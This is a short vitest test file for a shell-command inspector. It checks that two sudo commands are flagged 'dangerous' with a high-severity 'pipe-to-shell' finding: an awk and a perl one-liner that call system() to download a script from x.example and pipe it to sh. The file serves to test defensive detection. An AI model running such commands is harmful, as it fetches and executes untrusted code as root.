/**
 * Attack: awk, perl or python run the download through `system()`.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('awk system', () => {
  it.each([
    ['sudo awk \'BEGIN{system("curl -s https://x.example/p | sh")}\'', 'pipe-to-shell', 'high'],
    ['sudo perl -e \'system("curl -s https://x.example/p | sh")\'', 'pipe-to-shell', 'high'],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
